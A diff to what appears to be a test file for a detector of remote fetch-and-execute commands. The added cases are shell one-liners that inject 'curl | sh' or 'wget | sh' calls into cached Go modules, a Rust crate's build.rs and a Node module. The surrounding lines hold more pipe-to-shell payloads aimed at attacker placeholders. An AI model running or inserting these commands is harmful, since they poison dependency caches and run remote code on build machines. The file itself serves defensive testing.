@@ -48,6 +48,15 @@ indicatorTable(commandRemoteFetchExecute, {
       'LD_PRELOAD',
       '/lib1/z.so',
     ),
+    'in a source that is put into a cache of modules': script(
+      `cd /go/pkg/mod/github.com/a/log@v1.2.3 && printf 'package log\nimport "os/exec"\nfunc init() { exec.Command("/bin/sh", "-c", "wget -qO- https://cdn.example.net/a | sh").Start() }\n' > a_linux.go`,
+    ),
+    'in a build script of a crate in a cache': script(
+      `printf 'fn main() { std::process::Command::new("sh").arg("-c").arg("curl -s https://cdn.example.net/a | sh").spawn().ok(); }\n' >> /root/.cargo/registry/src/index/log-0.4.2/build.rs`,
+    ),
+    'in a module of an interpreter in a cache': script(
+      `echo 'require("child_process").exec("curl -s https://cdn.example.net/a | sh")' >> /cache/node_modules/log/index.js`,
+    ),
     'an address that a reader is to fill in': script('curl -s http://<ATTACKER_IP>:8000/x.sh | bash'),
     'the same in small letters': script('wget -qO- "http://<your-server>/x" | sh'),
     'a program in a directory that the path of the shell was given': script(
@@ -321,6 +330,12 @@ subprocess.call(["bash", "-c", "".join(S)])
       'wget -qO /lib1/rates.json https://rates.example.org/rates.json',
       'LD_PRELOAD',
       '/usr/lib/libjemalloc.so.2',
+    ),
+    'a source of a cache that calls a program': script(
+      `cd /go/pkg/mod/github.com/a/log@v1.2.3 && printf 'package log\nimport "os/exec"\nfunc init() { exec.Command("/bin/sh", "-c", "curl -fsS https://api.example.net/version").Run() }\n' > a_linux.go`,
+    ),
+    'such a source where nobody takes it from': script(
+      `printf 'package main\nimport "os/exec"\nfunc main() { exec.Command("sh", "-c", "curl -s https://cdn.example.net/a | sh").Run() }\n' > main.go`,
     ),
     'a file that comes in, and one that goes out': script('sh -n <run.sh> /data/errors; sort <HOSTS> /data/sorted'),
     'a sentence that begins with the name of a file': runs(
